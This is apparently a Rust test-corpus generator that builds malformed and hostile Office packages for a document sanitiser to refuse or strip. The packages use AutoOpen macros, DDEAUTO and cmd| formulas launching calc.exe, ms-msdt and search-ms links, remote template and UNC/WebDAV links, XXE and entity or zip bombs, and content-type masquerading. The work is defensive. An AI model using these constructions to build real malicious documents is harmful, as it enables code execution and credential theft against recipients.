//! Samples of the area `opc`: the container, content types, relationships and XML of any Office package.

use super::{
    archive::{Archive, Member, deflate_repeated},
    docx::{docx, field, paragraph, with_picture, word_type},
    media::{base64, emf, png},
    package::{MICROSOFT, Package, relationships_name},
    pptx::pptx,
    xlsx::xlsx,
};
use crate::{
    compound::{Compound, vba_project},
    sample::{Index, Marks},
};

const DOCUMENT: &str = "word/document.xml";
const SETTINGS: &str = "word/settings.xml";
const VBA: &str = "application/vnd.ms-office.vbaProject";

/// A project whose one macro would show the marker.
fn macros(m: &Marks) -> Vec<u8> {
    vba_project(&format!(
        "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nMsgBox \"{} calc.exe\"\r\nEnd Sub\r\n",
        m.kill
    ))
}

fn dde(m: &Marks) -> String {
    field(&[&format!("DDEAUTO calc.exe \"{}\"", m.kill)], "result")
}

/// Changes the ZIP file of a document.
fn damaged(m: &Marks, damage: impl FnOnce(&mut Archive)) -> Vec<u8> {
    let mut archive = docx(m).archive();
    damage(&mut archive);
    archive.bytes()
}

fn member<'a>(archive: &'a mut Archive, name: &str) -> &'a mut Member {
    let found = archive.members.iter_mut().find(|member| member.name == name);
    found.unwrap_or_else(|| panic!("no member {name}"))
}

/// The samples of the area `opc`.
pub fn samples(index: &mut Index) {
    container(index);
    content_types(index);
    relationships(index);
    markup(index);
    properties(index);
    encrypted(index);
    single_files(index);
}

fn container(index: &mut Index) {
    index
        .refused("opc.zip-duplicate-entry", "docx", |m| {
            let second = docx(m).fill(DOCUMENT, "body", &dde(m)).archive();
            damaged(m, |archive| {
                archive.members.extend(second.members.into_iter().filter(|member| member.name == DOCUMENT))
            })
        })
        .also(&["zip.duplicate-names"]);
    index
        .refused("opc.part-name-case-collision", "docx", |m| {
            let body = paragraph(&m.kill);
            damaged(m, |archive| archive.members.push(Member::new("WORD/Document.XML", body)))
        })
        .also(&["zip.case-collision"]);
    index
        .absent("opc.part-name-percent-encoding", "docx", |m| {
            docx(m)
                .part("word/%76baProject.bin", VBA, macros(m))
                .relate(DOCUMENT, "rIdMacros", &format!("{MICROSOFT}vbaProject"), "%76baProject.bin")
                .item("word//a.xml", m.kill.as_bytes())
                .item("word/./b.xml", m.kill.as_bytes())
                .zip()
        })
        .also(&["ooxml.vba-project", "opc.undeclared-part"]);
    index
        .absent("opc.orphan-part", "docx", |m| {
            docx(m).part("word/orphan.bin", "application/octet-stream", m.kill.as_bytes()).zip()
        })
        .also(&["opc.bin-part-unknown"]);
    index
        .absent("opc.undeclared-part", "docx", |m| {
            docx(m)
                .item("[trash]/0000.dat", m.kill.as_bytes())
                .item("word/calc.exe", [b"MZ".as_slice(), m.kill.as_bytes()].concat())
                .zip()
        })
        .also(&["opc.orphan-part"]);
    index.refused("opc.interleaved-pieces", "docx", |m| {
        let text = docx(m).fill(DOCUMENT, "body", &dde(m)).archive();
        let body = text
            .members
            .iter()
            .find(|member| member.name == DOCUMENT)
            .map(|member| member.body.clone())
            .unwrap_or_default();
        let (first, last) = body.split_at(body.len() / 2);
        damaged(m, |archive| {
            archive.members.retain(|member| member.name != DOCUMENT);
            archive.members.push(Member::new("word/document.xml/[0].piece", first));
            archive.members.push(Member::new("word/document.xml/[1].last.piece", last));
        })
    });
    index.absent("opc.zip-prepended-data", "docx", |m| {
        damaged(m, |archive| archive.prefix = format!("MZ stub {}", m.kill).into_bytes())
    });
    index.absent("opc.zip-appended-and-comment", "docx", |m| {
        damaged(m, |archive| {
            archive.comment = m.kill.clone().into_bytes();
            let styles = member(archive, "word/styles.xml");
            styles.comment = m.kill.clone().into_bytes();
            styles.extra = [&[0xfe, 0xca, m.kill.len() as u8, 0], m.kill.as_bytes()].concat();
        })
    });
    index
        .absent("opc.zip-appended-and-comment", "docx", |m| {
            damaged(m, |archive| archive.suffix = [vec![b' '; 1024], m.kill.clone().into_bytes()].concat())
        })
        .variant("appended");
    index
        .refused("opc.zip-entry-encrypted-or-odd-method", "docx", |m| {
            damaged(m, |archive| {
                let document = member(archive, DOCUMENT);
                document.flags = 1;
                document.body.extend(m.kill.as_bytes());
            })
        })
        .also(&["zip.encrypted-entries", "opc.encrypted-agile"]);
    index
        .refused("opc.zip-entry-encrypted-or-odd-method", "docx", |m| {
            damaged(m, |archive| {
                member(archive, DOCUMENT).method = Some(14);
                archive.comment = m.kill.clone().into_bytes();
            })
        })
        .variant("method")
        .also(&["zip.unsupported-method", "file.unsupported-format"]);
    index
        .refused("opc.zip-bomb-part", "docx", |m| {
            damaged(m, |archive| {
                let settings = member(archive, SETTINGS);
                let body = String::from_utf8_lossy(&settings.body).into_owned();
                let (head, tail) = body.split_at(body.rfind("</").unwrap_or(0));
                let tail = format!("<!--{}-->{tail}", m.kill);
                settings.deflated =
                    Some(deflate_repeated(head.as_bytes(), &[b' '; 1 << 20], 3000, tail.as_bytes()));
            })
        })
        .also(&["file.global-expansion-budget"]);
    index
        .refused("opc.corrupted-for-repair", "docx", |m| {
            let mut file = docx(m).fill(DOCUMENT, "body", &dde(m)).zip();
            let end = file.len() - 22;
            file.truncate(end);
            file
        })
        .also(&["file.truncated-input"]);
    index
        .refused("opc.corrupted-for-repair", "docx", |m| {
            damaged(m, |archive| {
                archive.comment = m.kill.clone().into_bytes();
                member(archive, DOCUMENT).checksum = Some(0xdead_beef);
            })
        })
        .variant("checksum")
        .also(&["file.truncated-input"]);
    index
        .refused("opc.corrupted-for-repair", "docx", |m| {
            docx(m)
                .body(DOCUMENT, |text| {
                    text.replace("</w:body>", &format!("<w:p>{}</w:body>", m.kill)).into_bytes()
                })
                .zip()
        })
        .variant("markup")
        .also(&["file.truncated-input"]);
}

fn content_types(index: &mut Index) {
    index
        .absent("opc.content-type-masquerade", "docx", |m| {
            docx(m)
                .part("word/media/image1.jpg", VBA, macros(m))
                .relate(DOCUMENT, "rIdMacros", &format!("{MICROSOFT}vbaProject"), "media/image1.jpg")
                .zip()
        })
        .also(&["ooxml.vba-project"]);
    index
        .absent("opc.content-type-default-extension", "docx", |m| {
            docx(m)
                .default_type("gif", VBA)
                .item("word/media/image1.gif", macros(m))
                .relate(DOCUMENT, "rIdMacros", &format!("{MICROSOFT}vbaProject"), "media/image1.gif")
                .zip()
        })
        .also(&["ooxml.vba-project"]);
    index.refused("opc.content-type-duplicate", "docx", |m| {
        docx(m).override_type("word/styles.xml", VBA).item("word/note.txt", m.kill.as_bytes()).zip()
    });
    index
        .refused("opc.content-type-duplicate", "docx", |m| {
            docx(m).override_type("WORD/Styles.xml", VBA).item("word/note.txt", m.kill.as_bytes()).zip()
        })
        .variant("case");
    index.absent("opc.macro-main-content-type", "docm", |m| {
        docx(m)
            .retype(DOCUMENT, "application/vnd.ms-word.document.macroEnabled.main+xml")
            .item("word/note.txt", m.kill.as_bytes())
            .zip()
    });
    index
        .absent("opc.macro-main-content-type", "dotm", |m| {
            docx(m)
                .retype(DOCUMENT, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
                .item("word/note.txt", m.kill.as_bytes())
                .zip()
        })
        .variant("template");
    index
        .absent("opc.macro-main-content-type", "xlsm", |m| {
            xlsx(m)
                .retype("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                .item("xl/note.txt", m.kill.as_bytes())
                .zip()
        })
        .variant("sheet");
    index
        .absent("opc.macro-main-content-type", "ppsm", |m| {
            pptx(m)
                .retype(
                    "ppt/presentation.xml",
                    "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
                )
                .item("ppt/note.txt", m.kill.as_bytes())
                .zip()
        })
        .variant("show");
    index
        .refused("opc.addin-package", "xlam", |m| {
            xlsx(m)
                .retype("xl/workbook.xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml")
                .part("xl/vbaProject.bin", VBA, macros(m))
                .relate("xl/workbook.xml", "rIdMacros", &format!("{MICROSOFT}vbaProject"), "vbaProject.bin")
                .zip()
        })
        .also(&["file.unsupported-format"]);
    index.absent("opc.bin-part-unknown", "docx", |m| {
        docx(m)
            .part("word/unknown1.bin", "application/octet-stream", m.kill.as_bytes())
            .relate(
                DOCUMENT,
                "rIdUnknown",
                "http://schemas.example.invalid/relationships/unknown",
                "unknown1.bin",
            )
            .zip()
    });
    index
        .absent("opc.bin-part-unknown", "docx", |m| {
            docx(m)
                .part(
                    "word/unknown1.xml",
                    "application/vnd.example.unknown+xml",
                    format!("<x>{}</x>", m.kill),
                )
                .relate(DOCUMENT, "rIdUnknown", "image", "unknown1.xml")
                .zip()
        })
        .variant("wrong-relationship")
        .also(&["ooxml.media-part-recode", "opc.content-type-masquerade"]);
}

/// A picture that is linked to `target`, with `mode`.
fn linked(m: &Marks, kind: &str, target: &str, mode: Option<&'static str>) -> Package {
    docx(m).relate_as(DOCUMENT, "rIdPlanted", kind, target, mode)
}

fn relationships(index: &mut Index) {
    const EXTERNAL: &[&str] =
        &["opc.rel-external-catch-all", "docx.attached-template", "ooxml.linked-picture", "ooxml.ole-link"];
    index.absent("opc.rel-external-catch-all", "docx", |m| {
        linked(
            m,
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/kill-unknown",
            &m.url("x"),
            Some("External"),
        )
        .zip()
    });
    index
        .absent("opc.rel-external-catch-all", "pptx", |m| {
            pptx(m).external("ppt/presentation.xml", "rIdPlanted", "kill-unknown", &m.url("x")).zip()
        })
        .variant("presentation");
    index
        .absent("opc.rel-external-without-mode", "docx", |m| {
            docx(m)
                .relate(SETTINGS, "rIdT", "attachedTemplate", &m.url("t.dotm"))
                .fill(SETTINGS, "settings", "<w:attachedTemplate r:id=\"rIdT\"/>")
                .zip()
        })
        .also(EXTERNAL);
    index
        .absent("opc.rel-external-without-mode", "docx", |m| {
            linked(m, "image", &m.unc("p.png"), Some("Internal")).zip()
        })
        .variant("internal")
        .also(EXTERNAL);
    index
        .absent("opc.rel-strict-namespace", "docx", |m| {
            docx(m)
                .external(SETTINGS, "rIdT", "attachedTemplate", &m.url("t.dotm"))
                .fill(SETTINGS, "settings", "<w:attachedTemplate r:id=\"rIdT\"/>")
                .strict()
                .zip()
        })
        .also(EXTERNAL);
    index
        .absent("opc.rel-type-obfuscated", "docx", |m| {
            docx(m)
                .external(SETTINGS, "rIdT", "attachedTemplate", &format!("&#104;ttps://{}/a.dotm", m.host))
                .fill(SETTINGS, "settings", "<w:attachedTemplate r:id=\"rIdT\"/>")
                .zip()
        })
        .also(EXTERNAL);
    index
        .absent("opc.rel-type-obfuscated", "docx", |m| {
            let package = docx(m).fill(SETTINGS, "settings", "<w:attachedTemplate r:id='rIdT'/>");
            let markup = format!(
                "<?xml version='1.0' encoding='UTF-16'?><q:Relationships xmlns:q='http://schemas.openxmlformats.org/package/2006/relationships'><q:Relationship TargetMode='External' Target='{}' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Id='rIdT'/></q:Relationships>",
                m.url("t.dotm")
            );
            package.item(&relationships_name(SETTINGS), utf16(&markup)).zip()
        })
        .variant("utf16")
        .also(EXTERNAL);
    index
        .absent("opc.rel-mhtml-moniker", "docx", |m| {
            let target = format!("mhtml:{0}!x-usc:{0}", m.url("x.html"));
            linked(m, "oleObject", &target, Some("External")).zip()
        })
        .also(&["ooxml.ole-embedded-object", "ooxml.ole-link", "opc.rel-external-catch-all"]);
    index.absent("opc.rel-ms-protocol-scheme", "docx", |m| {
        docx(m)
            .external(DOCUMENT, "rIdL", "hyperlink", &format!("ms-msdt:/id%20{}", m.kill))
            .external(DOCUMENT, "rIdS", "hyperlink", &format!("search-ms:query={}&crumb=location:{}", m.kill, m.unc("")))
            .fill(
                DOCUMENT,
                "body",
                "<w:p><w:hyperlink r:id=\"rIdL\"><w:r><w:t>link one</w:t></w:r></w:hyperlink><w:hyperlink r:id=\"rIdS\"><w:r><w:t>link two</w:t></w:r></w:hyperlink></w:p>",
            )
            .zip()
    })
    .also(&["ooxml.hyperlink-executable-or-local", "ooxml.hyperlink-script-scheme"]);
    index
        .absent("opc.rel-unc-smb-webdav", "docx", |m| {
            linked_picture(m, &format!(r"\\{}@SSL\DavWWWRoot\x.png", m.host))
        })
        .also(EXTERNAL);
    index
        .absent("opc.rel-unc-smb-webdav", "docx", |m| {
            linked_picture(m, &format!("file://{}/s/x.png", m.host))
        })
        .variant("file")
        .also(EXTERNAL);
    index.either("opc.rel-target-traversal", "docx", |m| {
        linked(m, "image", &format!("../../../../tmp/{}", m.kill), None).zip()
    });
    index
        .either("opc.rel-target-traversal", "docx", |m| {
            linked(m, "image", &format!("%2e%2e%2f%2e%2e%2f{}", m.kill), None).zip()
        })
        .variant("encoded");
    index
        .absent("opc.rel-dangling-and-duplicate-id", "docx", |m| {
            with_picture(m).external(DOCUMENT, "rIdPicture", "attachedTemplate", &m.url("t.dotm")).zip()
        })
        .also(EXTERNAL);
    index
        .absent("opc.rel-dangling-and-duplicate-id", "docx", |m| {
            docx(m).relate(DOCUMENT, "rIdNowhere", "image", &format!("media/{}.png", m.kill)).zip()
        })
        .variant("dangling");
    index
        .refused("opc.rel-cycle-and-self", "docx", |m| {
            docx(m)
                .item("word/note.txt", m.kill.as_bytes())
                .relate(DOCUMENT, "rIdSelf", "aFChunk", "document.xml")
                .fill(DOCUMENT, "body", "<w:altChunk r:id=\"rIdSelf\"/>")
                .zip()
        })
        .also(&["docx.altchunk"]);
    index
        .either("opc.rel-external-structural-part", "docx", |m| {
            docx(m)
                .external(DOCUMENT, "rIdHeader", "header", &m.url("header.xml"))
                .external(DOCUMENT, "rIdN", "numbering", &m.url("n.xml"))
                .zip()
        })
        .also(&["opc.rel-external-catch-all"]);
    index
        .refused("opc.rel-external-structural-part", "docx", |m| {
            Package::default()
                .external("", "rId1", "officeDocument", &m.url("document.xml"))
                .item("word/document.xml", m.kill.as_bytes())
                .zip()
        })
        .variant("main")
        .also(&[
            "file.type-extension-mismatch",
            "opc.corrupted-for-repair",
            "file.truncated-input",
            "file.unsupported-format",
        ]);
}

fn linked_picture(m: &Marks, target: &str) -> Vec<u8> {
    docx(m)
        .external(DOCUMENT, "rIdPlanted", "image", target)
        .fill(DOCUMENT, "body", &super::docx::drawing("r:link=\"rIdPlanted\"", "", ""))
        .zip()
}

fn utf16(text: &str) -> Vec<u8> {
    [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
}

fn markup(index: &mut Index) {
    index.refused("opc.xml-dtd-doctype", "docx", |m| {
        docx(m)
            .body(SETTINGS, |text| {
                let doctype = format!("<!DOCTYPE w:settings SYSTEM \"{}\" [<!ENTITY x SYSTEM \"file:///tmp/{}\">]>\n<w:settings", m.url("x.dtd"), m.kill);
                text.replacen("<w:settings", &doctype, 1).into_bytes()
            })
            .zip()
    });
    index
        .refused("opc.xml-dtd-doctype", "xlsx", |m| {
            xlsx(m)
                .item("docProps/note.txt", m.kill.as_bytes())
                .body("xl/workbook.xml", |text| {
                    text.replacen("<workbook", "<!DOCTYPE workbook>\n<workbook", 1).into_bytes()
                })
                .zip()
        })
        .variant("workbook");
    index
        .refused("opc.xml-entity-bomb", "docx", |m| {
            docx(m)
                .body(DOCUMENT, |text| {
                    let mut doctype = format!("<!DOCTYPE d [<!ENTITY l0 \"{}\">", m.kill);
                    for level in 1..10 {
                        doctype +=
                            &format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10));
                    }
                    text.replacen("<w:document", &format!("{doctype}]>\n<w:document"), 1)
                        .replacen("</w:t>", "&l9;</w:t>", 1)
                        .into_bytes()
                })
                .zip()
        })
        .also(&["opc.xml-dtd-doctype"]);
    index
        .absent("opc.xml-encoding-evasion", "docx", |m| {
            docx(m)
                .fill(DOCUMENT, "body", &dde(m))
                .body(DOCUMENT, |text| utf16(&text.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")))
                .zip()
        })
        .also(&["docx.dde-field-simple", "docx.dde-field-complex-split"]);
    index
        .refused("opc.xml-encoding-evasion", "docx", |m| {
            docx(m)
                .fill(DOCUMENT, "body", &dde(m))
                .body(DOCUMENT, |text| text.replace("encoding=\"UTF-8\"", "encoding=\"UTF-7\"").into_bytes())
                .zip()
        })
        .variant("utf7");
    index
        .refused("opc.xml-deep-nesting", "docx", |m| {
            let open = "<w:sdt><w:sdtContent>".repeat(100_000);
            let close = "</w:sdtContent></w:sdt>".repeat(100_000);
            docx(m).fill(DOCUMENT, "body", &format!("{open}{}{close}", paragraph(&m.kill))).zip()
        })
        .also(&["file.global-expansion-budget"]);
    index.absent("opc.xml-pi-and-comments", "docx", |m| {
        let planted = format!("<?xml-stylesheet href=\"{}\"?><!-- {} --><w:p/>", m.url("x.xsl"), m.kill);
        docx(m).fill(DOCUMENT, "body", &planted).zip()
    });
    index.absent("opc.mce-alternate-branches", "docx", |m| {
        let object = format!(
            "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\"><w:t>choice {}</w:t></mc:Choice><mc:Fallback><w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"s\" DrawAspect=\"Icon\" ObjectID=\"{}\" r:id=\"rIdO\"/></w:object></mc:Fallback></mc:AlternateContent></w:r></w:p>",
            m.keep, m.kill
        );
        docx(m)
            .part("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", super::compound_object(&m.kill))
            .relate(DOCUMENT, "rIdO", "oleObject", "embeddings/oleObject1.bin")
            .fill(DOCUMENT, "body", &object)
            .zip()
    })
    .also(&["ooxml.ole-embedded-object", "ooxml.ole-package-file"]);
    index.absent("opc.mce-ignorable-namespace", "docx", |m| {
        let data = base64(m.kill.as_bytes());
        docx(m)
            .replace(
                DOCUMENT,
                "mc:Ignorable=\"w14 w15\"",
                "mc:Ignorable=\"w14 w15 zz\" xmlns:zz=\"urn:kill\"",
            )
            .fill(
                DOCUMENT,
                "body",
                &format!("<zz:data zz:a=\"{}\">{data}</zz:data><w:p zz:b=\"{data}\"/>", m.kill),
            )
            .zip()
    });
    index.absent("opc.extlst-unknown-uri", "docx", |m| {
        let properties = format!("<a:extLst><a:ext uri=\"{{00000000-DEAD-4B4C-9999-000000000000}}\"><q:x xmlns:q=\"urn:kill\">{}</q:x></a:ext></a:extLst>", m.kill);
        docx(m)
            .item("word/media/image1.png", png([9, 9, 9]))
            .relate(DOCUMENT, "rIdP", "image", "media/image1.png")
            .fill(DOCUMENT, "body", &super::docx::drawing("r:embed=\"rIdP\"", "", &properties))
            .zip()
    });
    index
        .absent("opc.extlst-unknown-uri", "xlsx", |m| {
            xlsx(m)
                .fill("xl/workbook.xml", "workbook", &format!("<extLst><ext uri=\"{{00000000-DEAD-4B4C-9999-000000000000}}\"><q:x xmlns:q=\"urn:kill\">{}</q:x></ext></extLst>", m.kill))
                .zip()
        })
        .variant("workbook");
}

fn properties(index: &mut Index) {
    const CORE: &str = "application/vnd.openxmlformats-package.core-properties+xml";
    const METADATA: &str = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/";
    index.absent("opc.thumbnail", "docx", |m| {
        docx(m)
            .default_type("emf", "image/x-emf")
            .item("docProps/thumbnail.emf", emf(m.kill.as_bytes()))
            .relate("", "rIdThumb", &format!("{METADATA}thumbnail"), "docProps/thumbnail.emf")
            .zip()
    });
    index.absent("opc.core-properties", "docx", |m| {
        docx(m)
            .part(
                "docProps/core.xml",
                CORE,
                format!(
                    "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>{}</dc:title><dc:creator>{1}&lt;script&gt;</dc:creator><cp:lastModifiedBy>{1}</cp:lastModifiedBy><cp:keywords>{1}</cp:keywords></cp:coreProperties>",
                    m.keep, m.kill
                ),
            )
            .relate("", "rIdCore", &format!("{METADATA}core-properties"), "docProps/core.xml")
            .zip()
    });
    index.absent("opc.app-hyperlinkbase", "docx", |m| {
        docx(m)
            .part(
                "docProps/app.xml",
                "application/vnd.openxmlformats-officedocument.extended-properties+xml",
                format!(
                    "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Template>{}</Template><Company>{}</Company><HyperlinkBase>{}</HyperlinkBase></Properties>",
                    m.url("t.dotm"),
                    m.kill,
                    m.unc("")
                ),
            )
            .relate("", "rIdApp", "extended-properties", "docProps/app.xml")
            .zip()
    });
    index.absent("opc.custom-properties", "docx", |m| {
        docx(m)
            .part(
                "docProps/custom.xml",
                "application/vnd.openxmlformats-officedocument.custom-properties+xml",
                format!(
                    "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\" xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\"><property fmtid=\"{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}\" pid=\"2\" name=\"p\"><vt:blob>{}</vt:blob></property></Properties>",
                    base64(m.kill.as_bytes())
                ),
            )
            .relate("", "rIdCustom", "custom-properties", "docProps/custom.xml")
            .zip()
    });
    index
        .absent("opc.label-info", "docx", |m| {
            docx(m)
                .part(
                    "docMetadata/LabelInfo.xml",
                    "application/vnd.ms-office.classificationlabels+xml",
                    format!("<clbl:labelList xmlns:clbl=\"http://schemas.microsoft.com/office/2020/mipLabelMetadata\"><clbl:label id=\"{{{}}}\" enabled=\"1\" method=\"Standard\" siteId=\"s\" removed=\"0\"/></clbl:labelList>", m.kill),
                )
                .relate("", "rIdLabel", "http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels", "docMetadata/LabelInfo.xml")
                .zip()
        });
    index.absent("opc.signature-parts", "docx", |m| {
        let signature = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/";
        docx(m)
            .part("_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin", "")
            .part(
                "_xmlsignatures/sig1.xml",
                "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml",
                format!("<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><SignedInfo/><SignatureValue>AAAA</SignatureValue><KeyInfo><KeyName>CN=Test</KeyName></KeyInfo><Object>{}</Object></Signature>", m.kill),
            )
            .relate("", "rIdOrigin", &format!("{signature}origin"), "_xmlsignatures/origin.sigs")
            .relate("_xmlsignatures/origin.sigs", "rId1", &format!("{signature}signature"), "sig1.xml")
            .zip()
    });
    index.absent("opc.signature-line-provider-url", "docx", |m| {
        docx(m)
            .item("word/media/image1.png", png([70, 70, 70]))
            .relate(DOCUMENT, "rIdLine", "image", "media/image1.png")
            .fill(
                DOCUMENT,
                "body",
                &format!("<w:p><w:r><w:pict><v:shape id=\"line\" style=\"width:192pt;height:96pt\"><v:imagedata r:id=\"rIdLine\"/><o:signatureline v:ext=\"edit\" id=\"{{11111111-1111-1111-1111-111111111111}}\" provid=\"{{{}}}\" sigprovurl=\"{}\" issignatureline=\"t\"/></v:shape></w:pict></w:r></w:p>", m.kill, m.url("")),
            )
            .zip()
    })
    .also(&["opc.signature-parts"]);
}

fn encrypted(index: &mut Index) {
    index.refused("opc.encrypted-agile", "docx", |m| {
        let information = "<?xml version=\"1.0\"?><encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\"><keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\" saltValue=\"AAAAAAAAAAAAAAAAAAAAAA==\"/></encryption>";
        let mut stream = vec![4, 0, 4, 0, 0x40, 0, 0, 0];
        stream.extend(information.bytes());
        Compound::new().stream("EncryptionInfo", stream).stream("EncryptedPackage", m.kill.as_bytes()).bytes()
    });
    index.refused("opc.irm-dataspaces", "docx", |m| {
        Compound::new()
            .stream("\u{6}DataSpaces/DataSpaceMap", vec![8, 0, 0, 0])
            .stream("\u{6}DataSpaces/TransformInfo/DRMEncryptedTransform/\u{6}Primary", vec![0; 64])
            .stream("\u{9}DRMContent", m.kill.as_bytes())
            .stream("EncryptedPackage", m.kill.as_bytes())
            .bytes()
    });
    index.absent("opc.encrypted-default-password", "xlsm", |m| {
        let plain = xlsx(m)
            .retype("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            .part("xl/vbaProject.bin", VBA, macros(m))
            .relate("xl/workbook.xml", "rIdMacros", &format!("{MICROSOFT}vbaProject"), "vbaProject.bin")
            .zip();
        crate::encryption::encrypted(&plain, "VelvetSweatshop")
    });
}

fn single_files(index: &mut Index) {
    index.refused("opc.flat-opc-xml", "xml", |m| {
        format!(
            "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"{VBA}\"><pkg:binaryData>{}</pkg:binaryData></pkg:part><pkg:part pkg:name=\"/word/document.xml\" pkg:contentType=\"{}\"><pkg:xmlData/></pkg:part></pkg:package>",
            base64(m.kill.as_bytes()),
            word_type("document.main")
        )
        .into_bytes()
    })
    .also(&["file.unsupported-format"]);
    index.refused("opc.word2003-xml", "xml", |m| {
        format!(
            "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"yes\"><w:binData w:name=\"editdata.mso\">{}</w:binData><w:body><w:p/></w:body></w:wordDocument>",
            base64(m.kill.as_bytes())
        )
        .into_bytes()
    })
    .also(&["file.unsupported-format"]);
    index.refused("opc.excel2003-xml", "xml", |m| {
        format!(
            "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"S\"><Table><Row><Cell ss:Formula=\"=cmd|'/C {}'!A0\" ss:HRef=\"{}\"><Data ss:Type=\"String\">x</Data></Cell></Row></Table></Worksheet></Workbook>",
            m.kill,
            m.url("")
        )
        .into_bytes()
    })
    .also(&["file.unsupported-format"]);
}
